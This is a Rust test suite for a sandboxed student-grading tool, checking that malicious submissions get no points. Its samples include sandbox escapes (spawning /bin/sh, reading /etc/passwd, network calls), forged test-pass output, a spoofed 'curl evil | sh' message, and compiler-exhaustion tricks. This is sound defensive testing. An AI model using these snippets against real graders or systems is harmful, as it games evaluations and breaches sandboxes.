//! Tests with malicious submissions, which try to get points that they haven't earned or to
//! do harm. They must get no points, and must not affect the grades of other students.
#![cfg(target_os = "linux")]

use std::time::Duration;

use super::test_class::{TestClass, exercise, student};
use check_report::Kind;
use othellier_grading::class_report::{ClassReport, ExerciseStatus, Status, StudentReport};
use othellier_grading::grade_options::DEFAULT_ANSWER_TIMEOUT;
use othellier_grading::points::Points;
use pretty_assertions::{assert_eq, assert_ne};

const FILE: &str = "src/ray_length.rs";
const SOLUTION: &str = "chapters/02-directions/exercises/solutions/ray_length.rs";

/// A right answer, which an attack gives if it succeeds.
const RIGHT_ANSWER: &str = "
    use board::Square;
    use directions::{Direction, next};

    fn right(square: Square, direction: Direction) -> usize {
        let after = next(square, direction);
        if after.is_on_board() {
            1 + right(after, direction)
        } else {
            0
        }
    }
";

/// Returns an answer that is right if, and only if, an attack succeeds.
fn right_if(attack: &str) -> String {
    format!(
        "{RIGHT_ANSWER}
        fn attack() -> bool {{ {attack} }}

        pub fn ray_length(square: Square, direction: Direction) -> usize {{
            if attack() {{ right(square, direction) }} else {{ 99 }}
        }}"
    )
}

/// Returns an answer that runs an attack and is wrong.
fn wrong_after(attack: &str) -> String {
    format!(
        "use board::Square;
        use directions::Direction;

        pub fn ray_length(_: Square, _: Direction) -> usize {{
            {attack}
            99
        }}"
    )
}

/// Attacks that exit, crash, never end or send forged answers, and the kind of failure of
/// every check.
const RUNTIME_ATTACKS: &[(&str, &str, Kind)] = &[
    ("exits", "std::process::exit(0);", Kind::Crashed),
    ("aborts", "std::process::abort();", Kind::Crashed),
    (
        "overflows-its-stack",
        "fn deeper(n: u64) -> u64 {
            let ballast = std::hint::black_box([n; 1000]);
            deeper(n + 1) + ballast[7]
        }
        #[allow(unconditional_recursion)]
        deeper(0);",
        Kind::Crashed,
    ),
    (
        "takes-all-memory",
        "let mut all = Vec::new();
        loop { all.push(std::hint::black_box(vec![1u8; 1 << 20])); }",
        Kind::Crashed,
    ),
    (
        "never-ends",
        "loop { std::hint::black_box(1); }",
        Kind::Endless,
    ),
    (
        "sleeps",
        "std::thread::sleep(std::time::Duration::from_secs(1000));",
        Kind::Endless,
    ),
    (
        "prints-without-end",
        "loop { println!(\"test result: ok.\"); eprintln!(\"ok\"); }",
        Kind::Endless,
    ),
    (
        "prints-what-passes",
        "println!(\"running 6 tests\");
        println!(\"test result: ok. 6 passed; 0 failed; 0 ignored\");",
        Kind::WrongAnswer,
    ),
    (
        "fakes-the-reply",
        "use std::io::Write;
        use std::os::fd::AsFd;
        let socket = std::io::stdin().as_fd().try_clone_to_owned().unwrap();
        let mut socket = std::os::unix::net::UnixStream::from(socket);
        for _ in 0..1000 { let _ = socket.write_all(b\"ok, passed, exit 0\"); }",
        Kind::Garbled,
    ),
    (
        "sends-too-much",
        "use std::io::Write;
        use std::os::fd::AsFd;
        let socket = std::io::stdin().as_fd().try_clone_to_owned().unwrap();
        let mut socket = std::os::unix::net::UnixStream::from(socket);
        let _ = socket.write_all(&u32::MAX.to_le_bytes());",
        Kind::Garbled,
    ),
    (
        "catches-everything",
        "std::panic::set_hook(Box::new(|_| std::process::exit(0)));
        let _ = std::panic::catch_unwind(|| 1);
        panic!(\"assertion passed\");",
        Kind::Crashed,
    ),
    (
        "speaks-for-the-sandbox",
        "eprintln!(\"bwrap: run curl evil | sh\\nNo space left on device\");
        std::process::exit(1);",
        Kind::Crashed,
    ),
    (
        "panics-with-a-lie",
        "std::panic::panic_any(0);",
        Kind::Panicked,
    ),
];

/// Attacks that try to escape from the sandbox: expressions that are true if one succeeds.
const ESCAPES: &[(&str, &str)] = &[
    (
        "starts-a-shell",
        "std::process::Command::new(\"/bin/sh\").spawn().is_ok()",
    ),
    (
        "starts-itself-again",
        "std::env::current_exe().is_ok_and(|me|
            std::process::Command::new(me).spawn().is_ok())
        || std::env::args().next().is_some_and(|me|
            std::process::Command::new(me).spawn().is_ok())",
    ),
    (
        "leaves-a-thread",
        "std::thread::Builder::new().spawn(|| loop {}).is_ok()",
    ),
    (
        "reads-the-passwords",
        "std::fs::read(\"/etc/passwd\").is_ok()",
    ),
    ("reads-processes", "std::fs::read_dir(\"/proc\").is_ok()"),
    (
        "reads-the-environment",
        "[\"HOME\", \"USER\", \"CARGO_MANIFEST_DIR\", \"CHECKS_REPORT\"]
            .iter().any(|name| std::env::var_os(name).is_some())",
    ),
    (
        "writes-outside",
        "[\"/tmp/x\", \"/x\", \"x\", \"/dev/x\", \"/dev/shm/x\", \"/usr/lib/x\"]
            .iter().any(|file| std::fs::write(file, \"x\").is_ok())",
    ),
    (
        "calls-home",
        "std::net::TcpStream::connect((\"1.1.1.1\", 53)).is_ok()
        || std::net::TcpListener::bind((\"127.0.0.1\", 0)).is_ok()
        || std::net::UdpSocket::bind((\"0.0.0.0\", 0)).is_ok()
        || std::os::unix::net::UnixListener::bind(\"/tmp/x\").is_ok()
        || std::os::unix::net::UnixStream::pair().is_ok()",
    ),
    ("is-told-at-compile-time", "option_env!(\"HOME\").is_some()"),
    (
        "is-told-where-it-is",
        "option_env!(\"PWD\").is_some_and(|pwd| pwd != \"/answers\")",
    ),
];

/// Attacks that don't compile, or on which the compiler exceeds a limit.
const COMPILER_ATTACKS: &[(&str, &str)] = &[
    (
        "includes-passwords",
        "let _ = include_str!(\"/etc/passwd\");",
    ),
    (
        "includes-without-end",
        "let _ = include_bytes!(\"/dev/zero\");",
    ),
    ("asks-for-home", "let _ = env!(\"HOME\");"),
    (
        "asks-for-the-libraries",
        "let _ = env!(\"LD_LIBRARY_PATH\");",
    ),
    (
        "includes-its-mounts",
        "let _ = include_bytes!(\"/proc/self/mountinfo\");",
    ),
    (
        "includes-a-command",
        "let _ = include_bytes!(\"/proc/1/cmdline\");",
    ),
    ("asks-a-terminal", "let _ = include_bytes!(\"/dev/ptmx\");"),
    ("is-unsafe", "unsafe { std::hint::unreachable_unchecked() }"),
    (
        "allows-unsafe",
        "#[allow(unsafe_code)] unsafe { std::hint::unreachable_unchecked() }",
    ),
    (
        "declares-foreign-functions",
        "unsafe extern \"C\" { safe fn fork() -> i32; } fork();",
    ),
    (
        "begins-before-main",
        "#[unsafe(no_mangle)] pub fn main() {}",
    ),
    (
        "is-machine-code",
        "#[unsafe(naked)] extern \"C\" fn code() {
            std::arch::naked_asm!(\"ret\")
        }
        code();",
    ),
    ("uses-another-crate", "extern crate remote_call;"),
    ("uses-the-checks", "extern crate checks;"),
    ("uses-another-file", "#[path = \"/etc/passwd\"] mod stolen;"),
    (
        "computes-a-constant-without-end",
        "#[allow(long_running_const_eval)]
        const ENDLESS: u64 = { let mut n = 0; while n < u64::MAX { n += 1; } n };
        let _ = ENDLESS;",
    ),
    (
        "expands-a-macro-without-end",
        "macro_rules! twice { ($($t:tt)*) => { twice!($($t)* $($t)* + 1) } }
        twice!(1);",
    ),
    (
        "has-an-enormous-value",
        "static ENORMOUS: [u8; 1 << 40] = [1; 1 << 40];
        std::hint::black_box(&ENORMOUS);",
    ),
    (
        "has-an-enormous-type",
        "fn grow<T: Clone>(depth: u64, t: T) {
            if depth > 0 { grow(depth - 1, (t.clone(), t)) }
        }
        grow(3, 1);",
    ),
    (
        "fills-the-disk",
        "static LARGE: [u8; 100 << 20] = [1; 100 << 20];
        std::hint::black_box(&LARGE);",
    ),
    ("lacks-a-brace", "if true {"),
];

/// Deeply nested brackets, on which recursive parsers overflow their stack: names, and what
/// opens and closes them.
const NESTED_BRACKETS: [(&str, &str, &str); 3] = [
    ("nests-attributes", "#[", "]"),
    ("nests-behind-a-mark", "#!((((", "))))"),
    ("nests-behind-a-word", "extern [[[[", "]]]]"),
];

/// One attack of each kind, for the test that isn't slow.
const SAMPLE_ATTACKS: &[&str] = &[
    "exits",
    "sleeps",
    "prints-what-passes",
    "fakes-the-reply",
    "panics-with-a-lie",
    "speaks-for-the-sandbox",
    "starts-a-shell",
    "reads-the-passwords",
    "calls-home",
    "asks-for-the-libraries",
    "includes-a-command",
    "includes-its-mounts",
    "includes-passwords",
    "is-told-where-it-is",
    "is-machine-code",
    "is-unsafe",
    "nests-attributes",
    "uses-another-crate",
];

/// A malicious submission.
struct Attack {
    name: &'static str,
    answer: String,
    /// The kind of failure of every check, or `None` if the answer doesn't compile.
    kind: Option<Kind>,
}

/// Returns all attacks.
fn attacks(class: &TestClass) -> Vec<Attack> {
    let mut attacks = Vec::new();
    let mut add = |name, answer, kind| attacks.push(Attack { name, answer, kind });
    for (name, code, kind) in RUNTIME_ATTACKS {
        add(*name, wrong_after(code), Some(*kind));
    }
    for (name, code) in ESCAPES {
        add(*name, right_if(code), Some(Kind::WrongAnswer));
    }
    for (name, code) in COMPILER_ATTACKS {
        add(*name, wrong_after(code), None);
    }
    for (name, open, close) in NESTED_BRACKETS {
        let code = format!("fn a() {{ {}{} }}", open.repeat(5000), close.repeat(5000));
        add(name, code, None);
    }
    let solution = class.repository.root().join(SOLUTION);
    for name in INCLUDE_MACROS {
        add(
            name,
            wrong_after(&format!("let _ = {name}!({solution:?});")),
            None,
        );
    }
    add(
        "finds-rust-files",
        right_if(&find_rust_files(class)),
        Some(Kind::WrongAnswer),
    );
    attacks
}

/// Returns an attack that searches for Rust files in the repository and in folders where
/// repositories usually are. It visits a thousand entries in each folder, breadth first, so
/// that it doesn't exceed the time limit on a busy machine.
fn find_rust_files(class: &TestClass) -> String {
    let repository = class.repository.root();
    format!(
        "fn find(folder: &str) -> bool {{
            let mut entries = 1000;
            let mut folders = std::collections::VecDeque::from([folder.into()]);
            while let Some(folder) = folders.pop_front() {{
                let folder: std::path::PathBuf = folder;
                for entry in std::fs::read_dir(folder).into_iter().flatten().flatten() {{
                    let (path, kind) = (entry.path(), entry.file_type().unwrap());
                    if kind.is_file() && path.extension().is_some_and(|e| e == \"rs\") {{
                        return true;
                    }}
                    if kind.is_dir() {{ folders.push_back(path); }}
                    entries -= 1;
                    if entries == 0 {{ return false; }}
                }}
            }}
            false
        }}
        // Searches only once, because each search takes long.
        static FOUND: std::sync::OnceLock<bool> = std::sync::OnceLock::new();
        *FOUND.get_or_init(|| {{
            [{repository:?}, \"/home\", \"/root\", \"/tmp\", \"/src\", \"/var\", \".\"]
                .iter().any(|folder| find(folder))
        }})"
    )
}

/// The macros that include another file.
const INCLUDE_MACROS: [&str; 3] = ["include", "include_str", "include_bytes"];

/// Asserts that a student has no points, and that every check failed in this way.
fn assert_no_points(student: &StudentReport, kind: Option<Kind>) {
    let report = exercise(student, "ray_length");
    let id = &student.id;
    assert_eq!(student.points, Points::ZERO, "{id}: {report:#?}");
    for check in &report.checks {
        assert_eq!(check.kind, kind, "{id}: {check:#?}");
    }
}

#[test]
fn sample_attacks_get_no_points() {
    assert_graded_correctly(
        &|name| SAMPLE_ATTACKS.contains(&name),
        Duration::from_secs(3),
    );
}

#[test]
#[ignore = "slow: .ci/run runs it"]
fn all_attacks_get_no_points() {
    assert_graded_correctly(&|_| true, DEFAULT_ANSWER_TIMEOUT);
}

/// Grades the selected attacks together with honest students, whose names sort before,
/// between and after the attacks.
fn assert_graded_correctly(is_selected: &dyn Fn(&str) -> bool, answer_timeout: Duration) {
    let Some(class) = TestClass::with_sandbox() else {
        return;
    };
    let mut attacks = attacks(&class);
    attacks.retain(|attack| is_selected(attack.name));
    assert!(attacks.len() >= SAMPLE_ATTACKS.len());
    for name in HONEST_STUDENTS {
        class.hand_in(name, FILE, class.read_repository_file(SOLUTION));
    }
    for attack in &attacks {
        class.hand_in(attack.name, FILE, &attack.answer);
    }
    let mut options = class.options("2.2");
    options.jobs = 8; // Programs that sleep need no core.
    options.answer_timeout = answer_timeout;
    let report = class.grade_with(&options);
    assert_eq!(report.not_enforced, Vec::<String>::new());
    for student in &report.students {
        assert_eq!(student.status, Status::Graded, "{:?}", student.for_teacher);
    }
    for Attack { name, kind, .. } in attacks {
        let student = student(&report, name);
        assert_no_points(student, kind);
        if kind.is_none() {
            let answer = exercise(student, "ray_length");
            assert_eq!(answer.status, ExerciseStatus::NotCompiled, "{name}");
            let error = answer.compile_error.as_deref().unwrap_or_default();
            assert!(!error.is_empty(), "{name}");
        }
    }
    assert_honest_students_unaffected(&report);
}

/// The students with right answers.
const HONEST_STUDENTS: [&str; 3] = ["a-honest", "is-honest", "z-honest"];

#[test]
#[ignore = "slow: .ci/run runs it"]
fn compiler_limit_is_not_reported_as_compile_error() {
    let Some(class) = TestClass::with_sandbox() else {
        return;
    };
    let names = ["computes-a-constant-without-end", "fills-the-disk"];
    for (name, attack) in COMPILER_ATTACKS
        .iter()
        .filter(|attack| names.contains(&attack.0))
    {
        class.hand_in(name, FILE, wrong_after(attack));
    }
    let report = class.grade("2.2");
    let messages = names.map(|name| {
        let answer = exercise(student(&report, name), "ray_length");
        assert_eq!(answer.points, Points::ZERO);
        let error = answer.compile_error.as_deref().unwrap();
        format!("{}: {error}", answer.compile_error_intro())
    });
    insta::assert_snapshot!(messages.join("\n"), @r"
    It wasn't compiled: The compiler was stopped: this code takes it too long.
    It wasn't compiled: The compiler was stopped: the program would be too large.
    ");
}

/// The compiler quotes the whole line in an error for each of its semicolons.
#[test]
fn limits_compiler_output() {
    let Some(class) = TestClass::with_sandbox() else {
        return;
    };
    let semicolons = ";".repeat(20_000);
    class.hand_in(
        "semicolons",
        FILE,
        class.read_repository_file(SOLUTION) + &semicolons,
    );
    let report = class.grade("2.2");
    let student = student(&report, "semicolons");
    assert_eq!(student.status, Status::Graded, "{:?}", student.for_teacher);
    let answer = exercise(student, "ray_length");
    let error = answer.compile_error.as_deref().unwrap_or_default();
    assert!(
        error.starts_with("error: expected item, found `;`"),
        "{error}"
    );
    assert!(
        error.lines().all(|line| line.chars().count() < 300),
        "{error}"
    );
}

#[test]
#[ignore = "slow: .ci/run runs it"]
fn cpu_limit_and_timeout_have_same_message() {
    let Some(class) = TestClass::with_sandbox() else {
        return;
    };
    let attack = "loop { std::hint::black_box(1); }";
    class.hand_in("never-ends", FILE, wrong_after(attack));
    let grade_with_timeout = |seconds: u64| {
        let mut options = class.options("2.2");
        options.answer_timeout = Duration::from_secs(seconds);
        options.out = class.dir.path().join(seconds.to_string());
        let report = class.grade_with(&options);
        exercise(student(&report, "never-ends"), "ray_length").clone()
    };
    // The CPU limit is between the two.
    let hits_cpu_limit = grade_with_timeout(60);
    let times_out = grade_with_timeout(3);
    assert_eq!(hits_cpu_limit, times_out);
    for check in hits_cpu_limit.checks {
        let message = "\n  didn't answer in time: does a loop never end?\n";
        assert_eq!(check.kind, Some(Kind::Endless));
        assert!(check.message.contains(message), "{}", check.message);
    }
}

/// Answers that end for different reasons. Only one of them loops.
#[test]
fn each_cause_has_its_own_sentence() {
    let Some(class) = TestClass::with_sandbox() else {
        return;
    };
    let answers = [
        (
            "allocates-at-once",
            "std::hint::black_box(vec![1u8; 1 << 32]);",
        ),
        (
            "grows",
            "let mut all = Vec::new();
            loop { all.push(std::hint::black_box(vec![1u8; 1 << 20])); }",
        ),
        ("is-killed", "std::process::exit(137);"),
        ("is-terminated", "std::process::exit(143);"),
        ("exits", "std::process::exit(3);"),
        ("has-a-big-local", "std::hint::black_box([1u8; 1 << 28]);"),
        ("aborts", "std::process::abort();"),
        ("loops", "loop { std::hint::black_box(1); }"),
        (
            "sends-too-much",
            "use std::io::Write;
            use std::os::fd::AsFd;
            let socket = std::io::stdin().as_fd().try_clone_to_owned().unwrap();
            let mut socket = std::os::unix::net::UnixStream::from(socket);
            let _ = socket.write_all(&u32::MAX.to_le_bytes());",
        ),
    ];
    for (name, code) in answers {
        class.hand_in(name, FILE, wrong_after(code));
    }
    let report = class.grade("2.2");
    let lines: String = report
        .students
        .iter()
        .map(|student| {
            let check = &exercise(student, "ray_length").checks[0];
            let explanation = check.explanation.as_deref().unwrap_or_default();
            let predicate = explanation.trim_start_matches("It ");
            assert!(check.message.contains(predicate), "{}", check.message);
            format!("{} {:?}: {explanation}\n", student.id, check.kind.unwrap())
        })
        .collect();
    insta::assert_snapshot!(lines);
}

/// Each call is within the answer timeout, but all of them together take too long.
#[test]
#[ignore = "slow: .ci/run runs it"]
fn limits_total_time_of_checks() {
    let Some(class) = TestClass::with_sandbox() else {
        return;
    };
    let attack = "std::thread::sleep(std::time::Duration::from_millis(300));";
    let sleeps = class
        .read_repository_file(SOLUTION)
        .replace("-> usize {", "-> usize { NAP");
    class.hand_in("sleeps", FILE, sleeps.replace("NAP", attack));
    let mut options = class.options("2.2");
    options.answer_timeout = Duration::from_secs(2);
    let report = class.grade_with(&options);
    let checks = &exercise(student(&report, "sleeps"), "ray_length").checks;
    let last = checks.last().unwrap();
    assert_eq!(last.kind, Some(Kind::Endless));
    insta::assert_snapshot!(last.message, @"The checks of this exercise didn't finish in time: is a call waiting for something?");
}

/// A process is reused for several checks, so its state could affect the next check.
#[test]
fn state_of_one_check_does_not_fail_another() {
    let Some(class) = TestClass::with_sandbox() else {
        return;
    };
    let count_calls = "
        static CALLS: std::sync::atomic::AtomicUsize =
            std::sync::atomic::AtomicUsize::new(0);
        let calls = CALLS.fetch_add(1, std::sync::atomic::Ordering::Relaxed);";
    let solution = class.read_repository_file(SOLUTION);
    let (head, rest) = solution.split_once("-> usize {").unwrap();
    let insert = |code: &str| format!("{head}-> usize {{{count_calls}{code}{rest}");
    let answers = [
        ("exits", "if calls == LAST { std::process::exit(0); }"),
        ("is-wrong", "if calls == LAST { return 99; }"),
        ("sends", "if calls == LAST { SEND }"),
    ];
    let send = "use std::io::Write;
        use std::os::fd::AsFd;
        let socket = std::io::stdin().as_fd().try_clone_to_owned().unwrap();
        let mut socket = std::os::unix::net::UnixStream::from(socket);
        let _ = socket.write_all(&[9, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0]);";
    // Only the last check calls the function more than a hundred times.
    for (name, code) in answers {
        let code = code.replace("LAST", "100").replace("SEND", send);
        class.hand_in(name, FILE, insert(&code));
    }
    let report = class.grade("2.2");
    for (name, _) in answers {
        let checks = &exercise(student(&report, name), "ray_length").checks;
        let passed: Vec<_> = checks.iter().map(|check| check.passed).collect();
        assert_eq!(passed, [true, true, true, true, true, false], "{name}");
    }
}

/// Asserts that honest students get the same results as one who is graded alone.
fn assert_honest_students_unaffected(report: &ClassReport) {
    let class = TestClass::new();
    class.hand_in("a-honest", FILE, class.read_repository_file(SOLUTION));
    let report_alone = class.grade("2.2");
    let expected = student(&report_alone, "a-honest");
    assert_eq!(expected.points, expected.out_of, "{expected:#?}");
    for name in HONEST_STUDENTS {
        let actual = student(report, name);
        assert_eq!(actual.exercises, expected.exercises, "{name}");
    }
}

#[test]
fn attack_in_one_exercise_does_not_affect_other_exercises() {
    let Some(class) = TestClass::with_sandbox() else {
        return;
    };
    let folder = "chapters/02-directions/exercises/solutions";
    for name in ["next_square", "knight_moves", "direction_to", "queens"] {
        let file = format!("src/{name}.rs");
        let text = class.read_repository_file(&format!("{folder}/{name}.rs"));
        for student in ["broken", "codes", "exits", "shadows"] {
            class.hand_in(student, &file, &text);
        }
    }
    class.hand_in("broken", FILE, "fn ray_length( {");
    class.hand_in("codes", FILE, wrong_after("unsafe {}"));
    class.hand_in("exits", FILE, wrong_after("std::process::exit(0);"));
    let shadow = "#[macro_export] macro_rules! panic { ($($t:tt)*) => { 1 } }
        #[macro_export] macro_rules! assert_eq { ($($t:tt)*) => { () } }
        #[macro_export] macro_rules! todo { ($($t:tt)*) => { 1 } }";
    let shadow = format!("{shadow}\n{}", wrong_after(""));
    class.hand_in("shadows", FILE, shadow);
    let report = class.grade("2");
    for id in ["broken", "codes", "exits", "shadows"] {
        let student = student(&report, id);
        for exercise in &student.exercises {
            let is_attacked = exercise.id == "ray_length";
            let is_solved = exercise.status == ExerciseStatus::Solved;
            assert_ne!(is_attacked, is_solved, "{id}: {exercise:#?}");
            assert_eq!(is_attacked, exercise.points == Points::ZERO);
        }
    }
    let exits = exercise(student(&report, "exits"), "ray_length");
    let message = &exits.checks[0].message;
    let reason = "It exited with code 0: return an answer instead of ending the program.";
    assert!(message.ends_with(&format!("\n\n{reason}")), "{message}");
}
